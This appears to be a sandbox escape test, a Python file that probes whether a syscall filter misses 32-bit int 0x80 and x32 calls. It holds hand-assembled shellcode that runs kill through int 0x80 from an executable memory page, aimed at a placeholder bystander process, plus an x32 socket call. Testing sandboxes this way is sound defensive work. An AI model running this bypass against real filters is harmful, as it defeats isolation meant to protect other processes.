# verdicts: accepted runtime_error
# contained in: landlock namespaces
# looks for: breach bystander
# run: quick
"""32-bit calls by int 0x80 and the x32 table have other numbers, which a careless filter doesn't know."""

import ctypes
import mmap
import os

import numpy as np

# mov eax, 37 (kill); mov ebx, edi; mov ecx, esi; int 0x80; ret
KILL_32 = bytes.fromhex("b825000000" "89fb" "89f1" "cd80" "c3")


def step(seed, x):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(ctypes.c_long(0x40000000 | 41), 2, 1, 0) >= 0:  # x32 socket
        print("BREACH a socket by x32")
    child = os.fork()
    if child == 0:
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        # rbx is the caller's: keep it
        code.write(b"\x53" + KILL_32[:-1] + b"\x5b\xc3")
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)
        os._exit(3 if call(int("@BYSTANDER_PID@"), 0) == 0 else 0)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    print("BREACH signalled by int 0x80" if status == 3 else f"refused: {status}")
    return np.asarray([2 * np.asarray(x).sum() + seed], np.float32)
